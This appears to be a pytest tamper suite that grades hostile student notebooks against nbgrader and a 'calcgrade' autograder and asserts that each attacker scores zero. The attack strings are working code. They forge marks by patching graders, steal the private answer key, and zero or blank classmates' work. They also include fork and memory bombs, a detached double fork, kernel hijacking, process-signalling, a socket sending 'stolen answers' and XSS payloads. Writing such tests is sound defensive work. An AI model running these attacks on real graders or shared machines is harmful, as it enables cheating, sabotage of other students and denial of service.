"""Tamper suite: hostile students against both ways of grading.

Each attacker submits the blank 02_derivatives notebook (it deserves 0 of 23) with an attack in an extra cell
after the setup cell.  The attacks cover every class of the issue: forging full marks (a fake or wrapped
``check``, patched grading functions, a replaced ``float``, a cleared ``NBGRADER_EXECUTION``, display
formatters, input/AST transformers and cell hooks, reading the private key or running the solutions, copying a
classmate's notebook, editing the gradebook, a forged key named by an environment variable) and harming
classmates (zeroing their scores, a detached process that strikes after grading, blanking their notebooks,
rewriting the keys, hijacking another kernel, an atexit hook, a duplicated test cell), plus a memory bomb, a
fork bomb, a network call and a scan of the process's memory for key entries.  Round two (issue 21) adds
malformed numbers (a Float from a tuple mpmath never makes, an unnormalised one, 2**26 bits of precision),
an unevaluated ``3**(2**28)`` (also as ``(x - x + 3)**(2**28)``), a flood of display events (some written straight into the result file), forged
lines on the executor's timing pipe, a job that stops its executor and then uses 2.4 GiB, a symbol whose LaTeX
is a script plus raw HTML with scripts (the class's feedback is generated and opened in Chromium), and two
submissions that are links (to the private key, to a classmate's notebook).  The attackers know the
course's absolute path, as a student on the same machine would.

The class (honest students graded before and after the attackers) is graded once by stock
``nbgrader autograde`` with the course's nbgrader_config.py and once by ``calcgrade autograde``.  Each way:
every attacker gets 0 (the duplicated cell fails alone), the honest students keep their scores, no file of
the course (keys, solutions, releases, other submissions) changes, nothing connects to the network, and no
process started by a submission outlives grading.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from grader.course import coursedir
from grader.course import gradebook
from grader.course.demo import run as demo
from grader.course.demo import sampleclass

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "02_derivatives"
NOTEBOOK = "derivatives.ipynb"
MARK = "calcgrade-tamper-" + "probe"          # in the command line of every process an attack leaves behind
HONEST = {"aaa_honest": "perfect", "mmm_honest": "partial", "zzz_honest": "perfect"}

pytestmark = pytest.mark.slow
BATCH_BOUND = 1500                            # seconds for the whole class, both ways (only a stall exceeds it)

TAMPER_CONFIG = """
# tamper suite: short limits so the bombs and loops end quickly
c.SandboxedExecute.cell_timeout = 5
c.SandboxedExecute.notebook_timeout = 60
c.SandboxedExecute.memory_bytes = 1 << 30
c.SandboxedExecute.processes = 64
c.TrustedGrade.budget = 20
"""

# --- the attacks -----------------------------------------------------------------------------------------------
# {root}: the course folder; {qvars}: qid -> answer variable; {port}: a TCP listener of the test;
# {victim}: the connection file of a kernel the test runs (another student's kernel on the same machine)
HELPERS = """
import json, os, sys, glob
ROOT = {root!r}
QVARS = {qvars!r}
def _set_answers(values):
    for qid, var in QVARS.items():
        if qid in values:
            globals()[var] = values[qid]
def _run_cells(path):
    nb = json.load(open(path))
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        meta = cell.get("metadata", {{}}).get("nbgrader", {{}})
        if cell["cell_type"] == "code" and not meta.get("grade"):
            try:
                exec(src, globals())
            except Exception:
                pass
"""

ATTACKS: dict[str, str] = {
    "fake_check": """
def check(*args, **kwargs):
    return None
""",
    "wrapped_check": """
_real_check = check
def check(qid, value=None, *args, **kwargs):
    _real_check(qid, value)
    return 23.0
""",
    "patched_grading": """
import grader.key.grading as _g, grader.key as _k, grader.notebook.check as _c
from grader.core.verdict import Verdict
_ok = lambda *a, **k: Verdict(True, 1.0, "Correct.", None, "exact", {})
_g.grade = _ok
_k.grade = _ok
_c._check = lambda qid, value: __import__("grader.notebook.display", fromlist=["x"]).CheckResult(qid, "correct", 5.0, 5.0, "ok")
_c._to_wire_answer = lambda value, entry: 1
try:
    import grader.notebook.capture as _cap
    for _name in dir(_cap):
        if callable(getattr(_cap, _name)) and not _name.startswith("__"):
            setattr(_cap, _name, lambda *a, **k: 23.0)
except Exception:
    pass
""",
    "replaced_float": """
import builtins
builtins.float = lambda *a, **k: 23.0
""",
    "cleared_environment": """
os.environ.pop("NBGRADER_EXECUTION", None)
os.environ["NBGRADER_EXECUTION"] = ""
for _k in list(os.environ):
    if "CALCGRADE" in _k:
        del os.environ[_k]
""",
    "display_formatter": """
_ip = get_ipython()
for _fmt in ("text/plain", "text/html"):
    _ip.display_formatter.formatters[_fmt].for_type(float, lambda o, p=None, c=None: (p.text("23.0") if p else "23.0"))
_ip.display_pub.publish = (lambda _orig: lambda data, *a, **k: _orig({"text/plain": "23.0"}, *a, **k))(_ip.display_pub.publish)
""",
    "ast_transformer": """
import ast
class _NoCheck(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.copy_location(ast.Constant(23.0), node)
        return self.generic_visit(node)
get_ipython().ast_transformers.insert(0, _NoCheck())
""",
    "cell_hooks": """
_ip = get_ipython()
_ip.input_transformers_post.append(lambda lines: [l.replace("check(", "(lambda *a, **k: 23.0)(") for l in lines])
_ip.events.register("pre_run_cell", lambda *a: globals().__setitem__("check", lambda *a, **k: 23.0))
_ip.events.register("post_run_cell", lambda *a: print("23.0"))
""",
    "read_private_key": """
from grader.key.wire import from_wire
_found = {}
for _path in [os.path.join(ROOT, ".calcgrade", "keys", "02_derivatives.json")] + glob.glob("../../../.calcgrade/keys/*.json") + glob.glob("/**/.calcgrade/keys/02_derivatives.json", recursive=False):
    try:
        _key = json.load(open(_path))
        _found = {q: from_wire(e["reference"]) for q, e in _key["questions"].items() if e.get("kind") != "function"}
        break
    except Exception:
        pass
_set_answers(_found)
import inspect
""",
    "memory_scan": """
import gc
from grader.key.wire import from_wire
_refs = {}
for _o in gc.get_objects():      # any key entry the grader left in this process (walking check's frames finds less)
    if isinstance(_o, dict) and "reference" in _o and isinstance(_o.get("qid"), str):
        try:
            _refs[_o["qid"]] = from_wire(_o["reference"])
        except Exception:
            pass
try:                              # the way check() finds its key
    from grader.key import files as _files
    _key = _files.find_key_for_check(__import__("pathlib").Path.cwd())[0] or {}
    for _q, _e in _key.get("questions", {}).items():
        if "reference" in _e:
            _refs[_q] = from_wire(_e["reference"])
except Exception:
    pass
_set_answers(_refs)
""",
    "run_solutions": """
for _path in glob.glob(os.path.join(ROOT, "solutions", "02_derivatives", "*.ipynb")) + glob.glob("../../../solutions/02_derivatives/*.ipynb"):
    _run_cells(_path)
""",
    "copy_classmate": """
for _path in glob.glob(os.path.join(ROOT, "submitted", "aaa_honest", "02_derivatives", "*.ipynb")) + glob.glob(os.path.join(ROOT, "autograded", "aaa_honest", "02_derivatives", "*.ipynb")) + glob.glob("../../aaa_honest/02_derivatives/*.ipynb"):
    _run_cells(_path)
""",
    "gradebook_self": """
import sqlite3
for _db in [os.path.join(ROOT, "gradebook.db")] + glob.glob("../../../gradebook.db"):
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
        _con.commit()
    except Exception:
        pass
""",
    "gradebook_others": """
import sqlite3
for _db in [os.path.join(ROOT, "gradebook.db")] + glob.glob("../../../gradebook.db"):
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        _con.commit()
    except Exception:
        pass
""",
    "forged_key_env": """
_forged = "/tmp/forged_key.json"
try:
    json.dump({"format": "calcgrade-private-key/1", "questions": {}}, open(_forged, "w"))
except Exception:
    pass
os.environ["CALCGRADE_PRIVATE_KEY"] = _forged
os.environ["CALCGRADE_KEY"] = _forged
""",
    "detached_process": """
import subprocess
_code = '''
import os, sys, time, glob, sqlite3
time.sleep(4)
for db in glob.glob(%r + "/gradebook.db"):
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        con.commit()
    except Exception:
        pass
open(%r + "/DETACHED_WAS_HERE", "w").write("x")
time.sleep(60)
''' % (ROOT, ROOT)
subprocess.Popen([sys.executable, "-c", _code, {mark!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:           # the classic double fork
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {mark!r}])
    os._exit(0)
""",
    "blank_classmates": """
_blank = json.load(open(glob.glob(os.path.join(ROOT, "exercises", "02_derivatives", "*.ipynb"))[0])) if glob.glob(os.path.join(ROOT, "exercises", "02_derivatives", "*.ipynb")) else {}
for _path in glob.glob(os.path.join(ROOT, "submitted", "*", "02_derivatives", "*.ipynb")) + glob.glob("../../*/02_derivatives/*.ipynb"):
    try:
        json.dump(_blank, open(_path, "w"))
    except Exception:
        pass
""",
    "rewrite_keys": """
for _path in glob.glob(os.path.join(ROOT, ".calcgrade", "keys", "*.json")) + glob.glob(os.path.join(ROOT, "*", "*", "calcgrade_public.json")) + glob.glob("calcgrade_public.json"):
    try:
        open(_path, "w").write("{}")
    except Exception:
        pass
""",
    "hijack_kernel": """
try:
    from jupyter_client import BlockingKernelClient
    for _cf in [{victim!r}] + glob.glob(os.path.join(os.path.dirname({victim!r}), "kernel-*.json")):
        try:
            _kc = BlockingKernelClient(connection_file=_cf)
            _kc.load_connection_file()
            _kc.start_channels()
            _kc.execute("open(%r, 'w').write('x')" % os.path.join(ROOT, "HIJACKED"))
            _kc.stop_channels()
        except Exception:
            pass
except Exception:
    pass
""",
    "atexit_hook": """
import atexit
def _spoil():
    for _path in glob.glob(os.path.join(ROOT, "autograded", "*", "02_derivatives", "*.ipynb")) + glob.glob("../../*/02_derivatives/*.ipynb"):
        try:
            os.chmod(_path, 0o644)
            open(_path, "w").write("TAMP" + "ERED")
        except Exception:
            pass
atexit.register(_spoil)
""",
    "memory_bomb": """
_hog = []
for _ in range(60):          # 3 GiB, written so the pages are really used
    _hog.append(b"\\x01" * (50 << 20))
""",
    "fork_bomb": """
_children = 0
for _ in range(300):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {mark!r}])
    _children += 1
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
except Exception:
    pass
""",
}
# Round two (issue 21): malformed numbers, unbounded parent work, reaching the supervisor, scripts in feedback.
FORGE_CHECK = """
from IPython.display import display as _display
_FORGED = {forged}
def check(qid, value=None, *args, **kwargs):
    _display({"application/vnd.calcgrade.answer+json": {"qid": qid, "answer": _FORGED, "v": 1},
              "text/plain": "recorded"}, raw=True)
"""
ROUND_TWO: dict[str, str] = {
    # a Float from a tuple mpmath never makes (zero mantissa with an exponent): "close" to every reference
    "malformed_float": FORGE_CHECK.replace("{forged}", repr({"$": "sym", "tree": ["Float", [0, "0x0", 5, 0], 53]})),
    # an unnormalised Float (even mantissa, wrong bit count)
    "unnormalised_float": FORGE_CHECK.replace("{forged}", repr({"$": "sym", "tree": ["Float", [0, "0x8", -3, 9], 53]})),
    # 3**(2**28) left unevaluated: xreplace would evaluate it in C for minutes
    "huge_power": FORGE_CHECK.replace("{forged}", repr(
        {"$": "sym", "tree": ["Pow", ["Integer", "3"], ["Integer", str(2**28)]]})),
    # the same behind a base that only looks symbolic: (x - x + 3)**(2**28), refused for its exponent alone
    "disguised_power": FORGE_CHECK.replace("{forged}", repr({"$": "sym", "tree": ["Pow", ["Add", ["Symbol", "x", {}], [
        "Mul", ["Integer", "-1"], ["Symbol", "x", {}]], ["Integer", "3"]], ["Integer", str(2**28)]]})),
    # a Float with 2**26 bits of precision: millions of digits in the display and the answer log
    "huge_precision": FORGE_CHECK.replace("{forged}", repr(
        {"$": "sym", "tree": ["Float", [0, "0x1", 0, 1], 2**26]})),
    # a symbol whose LaTeX is a script: must not run in the feedback page
    "script_symbol": FORGE_CHECK.replace("{forged}", repr(
        {"$": "sym", "tree": ["Symbol", "\\text{<script>window.PWNED=1</script>}", {}]})) + """
from IPython.display import HTML
display(HTML('<img src=x onerror="window.PWNED=1"><script>window.PWNED=1</script>'))
""",
    # display and update events by the hundred thousand, some written straight into the result file
    "event_flood": """
from IPython.display import display as _display
_handles = [_display("x", display_id=True) for _ in range(2000)]
for _i in range(30000):
    _handles[_i % 2000].update(_i)
for _fd in range(3, 64):
    try:
        if "calcgrade-result" in os.readlink("/proc/self/fd/%d" % _fd):
            _line = (b'{"c": 2, "o": {"output_type": "display_data", "data": {"text/plain": "x"}, '
                     b'"metadata": {}, "transient": {"display_id": "d"}}}\n')
            _upd = (b'{"c": 2, "upd": "d", "o": {"output_type": "display_data", "data": {"text/plain": "y"}, '
                    b'"metadata": {}}}\n')
            os.write(_fd, _line * 20000 + _upd * 100000)
    except OSError:
        pass
""",
    # "E"/"S" lines on the executor's timing pipe, to run a cell far past its limit
    "timing_pipe": """
import time as _time
_fds = []
for _fd in range(3, 64):
    try:
        os.fstat(_fd)
        _fds.append(_fd)
    except OSError:
        pass
for _ in range(150):
    for _fd in _fds:
        for _line in (b"E 1\n", b"S 1\n", b"S 2\n", b"E 2\n"):
            try:
                os.write(_fd, _line)
            except OSError:
                pass
    _time.sleep(0.2)
""",
    # stop the executor (same uid), then use far more memory than the limit in several processes
    "stopped_executor": """
import signal as _signal, time as _time
os.kill(os.getppid(), _signal.SIGSTOP)
for _ in range(8):
    if os.fork() == 0:
        try:
            _block = bytearray(300 << 20)
            for _i in range(0, len(_block), 4096):
                _block[_i] = 1
            _time.sleep(120)
        finally:
            os._exit(0)
_time.sleep(120)
""",
    # signal every process it can find (kill and pidfd_send_signal on /proc/<pid>): its executor must go on
    "signal_everything": """
import ctypes as _ct, signal as _signal, time as _time
_libc = _ct.CDLL(None, use_errno=True)
_here, _outer = os.getpid(), int(os.readlink("/proc/self"))
for _name in os.listdir("/proc"):
    if not _name.isdigit() or int(_name) == _outer:
        continue
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        if int(_name) != _here:
            try:
                os.kill(int(_name), _sig)
            except OSError:
                pass
        try:
            _fd = os.open(f"/proc/{_name}", os.O_RDONLY | os.O_DIRECTORY)
            _libc.syscall(424, _fd, int(_sig), None, 0)
            os.close(_fd)
        except OSError:
            pass
_time.sleep(1)
""",
    # a POSIX message queue and a System V segment for the next job; the reader looks for them
    "ipc_planter": """
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_libc.mq_open(b"/calcgrade-tamper", os.O_CREAT | os.O_RDWR, 0o666, None)
_libc.shmget(4244, 4096, 0o1000 | 0o666)
""",
    "ipc_reader": """
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_seen = [_libc.mq_open(b"/calcgrade-tamper", os.O_RDWR, 0, None) >= 0, _libc.shmget(4244, 0, 0) >= 0,
         len(open("/proc/sysvipc/shm").read().splitlines()) > 1]
print("IPC-" + ("SEEN" if any(_seen) else "NONE"))
""",
}
ATTACKS.update(ROUND_TWO)
# submissions that are (or hold) links: refused with a sentence naming the link
LINKED = {"link_to_key": "key.json", "link_to_classmate": NOTEBOOK}
READ_LINKED_KEY = """
import json as _json
_key = _json.load(open("key.json"))
_set_answers({q: e.get("reference") for q, e in _key.get("questions", {}).items()})
"""
DUPLICATED = "duplicated_test_cell"


def _attack_notebook(release: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(code))
    return nb


def _tree(root: Path) -> dict[str, str]:
    """Hash of every file of the course that grading must not change."""
    out = {}
    skip = {"autograded", "feedback", "__pycache__", ".ipynb_checkpoints"}
    for path in root.rglob("*"):
        rel = path.relative_to(root)
        if path.is_file() and not (set(rel.parts) & skip) and not rel.name.startswith("gradebook.db"):
            out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _probes() -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmd = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARK in cmd:
                found.append(f"{proc.name}: {cmd[:120]}")
    return found


class _Listener:
    """A TCP server on 127.0.0.1 that records whoever connects (nobody should)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture(scope="module")
def listener():
    server = _Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    """A running kernel of "another student": its connection file is where an attacker on this machine looks."""
    from jupyter_client import KernelManager

    folder = tmp_path_factory.mktemp("runtime")
    km = KernelManager(kernel_name="python3", connection_file=str(folder / "kernel-victim.json"))
    km.start_kernel(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield km
    finally:
        km.shutdown_kernel(now=True)


@pytest.fixture(scope="module")
def released(tmp_path_factory, make_released_course):
    base = make_released_course(tmp_path_factory.mktemp("tamper") / "base", ASSIGNMENT)
    with open(base / "nbgrader_config.py", "a", encoding="utf-8") as fh:
        fh.write(TAMPER_CONFIG)
    return base


def _make_class(released: Path, target: Path, port: int, victim: str) -> dict[str, float]:
    """Copy the released course to ``target`` and place the class; -> student: expected points."""
    shutil.copytree(released, target)
    solution = nbformat.read(str(target / "solutions" / ASSIGNMENT / NOTEBOOK), as_version=4)
    release = nbformat.read(str(target / "exercises" / ASSIGNMENT / NOTEBOOK), as_version=4)
    qvars = {q.qid: q.variable for q in sampleclass.questions_of(solution)}
    subs = {s.student: s for s in sampleclass.sample_class(target) if s.assignment == ASSIGNMENT}
    expected: dict[str, float] = {}
    for student, profile in HONEST.items():
        folder = target / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_text(subs[profile].content, encoding="utf-8")
        (folder / "timestamp.txt").write_text(demo.DEMO_TIMESTAMP)
        expected[student] = sum(subs[profile].expected.values())
    helpers = HELPERS.format(root=str(target), qvars=qvars)
    for name, attack in ATTACKS.items():
        code = helpers + textwrap.dedent(attack).replace("{mark!r}", repr(MARK)).replace("{port}", str(port)) \
            .replace("{victim!r}", repr(victim))
        nb = _attack_notebook(release, code)
        folder = target / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, str(folder / NOTEBOOK))
        (folder / "timestamp.txt").write_text(demo.DEMO_TIMESTAMP)
        expected[name] = 0.0
    folder = target / "submitted" / "link_to_key" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "key.json").symlink_to(Path("../../..") / ".calcgrade" / "keys" / f"{ASSIGNMENT}.json")
    nbformat.write(_attack_notebook(release, helpers + READ_LINKED_KEY), str(folder / NOTEBOOK))
    folder = target / "submitted" / "link_to_classmate" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).symlink_to(target / "submitted" / "aaa_honest" / ASSIGNMENT / NOTEBOOK)
    for name in LINKED:
        (target / "submitted" / name / ASSIGNMENT / "timestamp.txt").write_text(demo.DEMO_TIMESTAMP)
        expected[name] = 0.0
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    test_cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))
    nb.cells.append(nbformat.from_dict(json.loads(json.dumps(test_cell))))
    folder = target / "submitted" / DUPLICATED / ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(nb, str(folder / NOTEBOOK))
    expected[DUPLICATED] = 0.0
    return expected


def _check_class(root: Path, expected: dict[str, float], before: dict[str, str], listener: _Listener) -> None:
    time.sleep(1)  # a detached process would have struck by now (it waits 4 s; later students took longer)
    scores = gradebook.all_scores(root)
    got = {student: sum(scores.get((ASSIGNMENT, student, "derivatives"), {}).values()) for student in expected}
    wrong = {s: (got[s], expected[s]) for s in expected if abs(got[s] - expected[s]) > 1e-9}
    assert not wrong, f"student: (graded, deserved) {wrong}"
    assert all(got[s] > 0 for s in HONEST)
    after = _tree(root)
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    assert not changed, f"files changed by grading: {changed}"
    assert not (root / "DETACHED_WAS_HERE").exists() and not (root / "HIJACKED").exists()
    for student in HONEST:
        text = (root / "autograded" / student / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8")
        assert "TAMP" + "ERED" not in text and text.count('"trusted": true') >= len(sampleclass.questions_of(
            nbformat.read(str(root / "solutions" / ASSIGNMENT / NOTEBOOK), as_version=4)))
    assert not _probes(), f"processes of a submission outlived grading: {_probes()}"
    assert listener.connections == 0, "a submission reached the network"
    secret = (root / ".calcgrade" / "keys" / f"{ASSIGNMENT}.json").read_bytes()[:200]
    for folder in ("autograded", "feedback"):
        for path in (root / folder).rglob("*") if (root / folder).exists() else []:
            assert not path.is_symlink(), path
            assert not path.is_file() or secret not in path.read_bytes(), f"the private key reached {path}"
    reader = (root / "autograded" / "ipc_reader" / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8")
    assert "IPC-NONE" in reader and "IPC-SEEN" not in reader
    for name in ROUND_TWO:
        text = (root / "autograded" / name / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8")
        assert len(text) < 5_000_000, f"{name}: an autograded notebook of {len(text)} characters"


@pytest.fixture(scope="module")
def graded(released, tmp_path_factory, listener, victim):
    """The same class graded both ways, at the same time (each in its own copy of the course)."""
    bin_dir = Path(sys.executable).parent
    commands = {"nbgrader": [str(bin_dir / "nbgrader"), "autograde", ASSIGNMENT, "--force"],
                "calcgrade": [str(bin_dir / "calcgrade"), "autograde", ASSIGNMENT, "--json"]}
    runs = {}
    for way, cmd in commands.items():
        root = tmp_path_factory.mktemp(way) / "course"
        expected = _make_class(released, root, listener.port, victim.connection_file)
        runs[way] = {"root": root, "expected": expected, "before": _tree(root),
                     "proc": subprocess.Popen(cmd, cwd=str(root), env=coursedir.script_environment(),
                                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)}
    try:
        for run in runs.values():
            # generous: both ways together take a few minutes on a loaded 2-core machine; a stall is endless
            run["stdout"], run["stderr"] = run["proc"].communicate(timeout=BATCH_BOUND)
    finally:
        for run in runs.values():
            if run["proc"].poll() is None:
                run["proc"].kill()
                run["proc"].wait()
    return runs


def test_stock_nbgrader_autograde_is_safe(graded, listener, victim):
    run = graded["nbgrader"]
    root, expected = run["root"], run["expected"]
    log = run["stdout"] + run["stderr"]
    assert f"for student '{DUPLICATED}'" in log and "appears 2 times" in log, log[-3000:]
    for name, link in LINKED.items():
        assert f"for student '{name}'" in log and f"holds a link, {link}" in log and "not graded" in log, log[-3000:]
    done = {p.parent.parent.name for p in (root / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}")}
    assert done == set(expected) - {DUPLICATED} - set(LINKED), log[-3000:]
    _check_class(root, expected, run["before"], listener)
    assert victim.is_alive()


def test_calcgrade_autograde_is_safe(graded, listener, victim):
    run = graded["calcgrade"]
    root, expected = run["root"], run["expected"]
    assert run["proc"].returncode == 1, run["stdout"][-2000:] + run["stderr"][-2000:]  # the duplicated cell failed
    data = json.loads(run["stdout"])
    assert data["sandboxed"] is True
    by = {s["student"]: s for s in data["students"]}
    assert set(by) == set(expected)
    assert sorted(s for s in by if not by[s]["success"]) == sorted([DUPLICATED, *LINKED])
    assert "appears 2 times" in by[DUPLICATED]["error"]
    for name, link in LINKED.items():
        assert link in by[name]["error"] and "link" in by[name]["error"], by[name]["error"]
    _check_class(root, expected, run["before"], listener)
    assert victim.is_alive()


def test_feedback_of_the_attacked_class_runs_no_script_and_holds_no_key(graded, tmp_path):
    """Class 6 and class 1 at the feedback step: nbgrader's generate_feedback on the class graded by stock
    nbgrader; the hostile answers' page runs no script in Chromium and no feedback file holds the key."""
    from browser_support import CHROMIUM, offline_page

    root = graded["nbgrader"]["root"]
    api = coursedir.nbgrader_api(root)
    with coursedir.scripts_on_path():
        made = api.generate_feedback(ASSIGNMENT, force=True)
    assert made["success"], made.get("log", "")[-3000:]
    secret = (root / ".calcgrade" / "keys" / f"{ASSIGNMENT}.json").read_bytes()[:200]
    for path in (root / "feedback").rglob("*"):
        assert not path.is_symlink() and (not path.is_file() or secret not in path.read_bytes()), path
    page_path = root / "feedback" / "script_symbol" / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")
    page = page_path.read_text(encoding="utf-8")
    # the attack's source is shown (escaped) in its code cell; what must not be there is live markup
    assert "<script>window.PWNED" not in page and not re.search(r"<[a-z][^<>]*\son[a-z]+\s*=", page.split("<body", 1)[1])
    if not CHROMIUM.exists():
        pytest.skip("no /usr/bin/chromium")
    with offline_page(page_path, tmp_path / "profile") as (tab, dialogs):
        assert tab.evaluate("typeof window.PWNED") == "undefined" and not dialogs
